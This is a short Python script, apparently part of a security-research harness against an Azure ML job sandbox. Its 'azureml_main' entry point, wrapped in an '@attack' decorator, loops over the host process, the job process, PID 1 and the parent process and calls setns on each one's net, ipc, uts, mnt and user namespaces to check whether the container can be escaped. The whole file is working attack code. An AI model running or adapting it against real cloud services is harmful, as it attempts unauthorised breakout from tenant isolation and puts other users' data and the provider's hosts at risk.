"""Enters the namespaces of the process that ordered the job, and of the first process."""

import os

from attack import BAIT, attack, c, every


def enter(path):
    before = os.readlink(f"/proc/self/ns/{os.path.basename(path)}")
    c("setns", os.open(path, os.O_RDONLY), 0)
    after = os.readlink(f"/proc/self/ns/{os.path.basename(path)}")
    return f"entered {path}, {'the same' if before == after else 'another'}"


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    pids = [BAIT["host_pid"], BAIT["process_pid"], 1, os.getppid()]
    return every(enter, [f"/proc/{pid}/ns/{kind}" for pid in pids for kind in ("net", "ipc", "uts", "mnt", "user")])
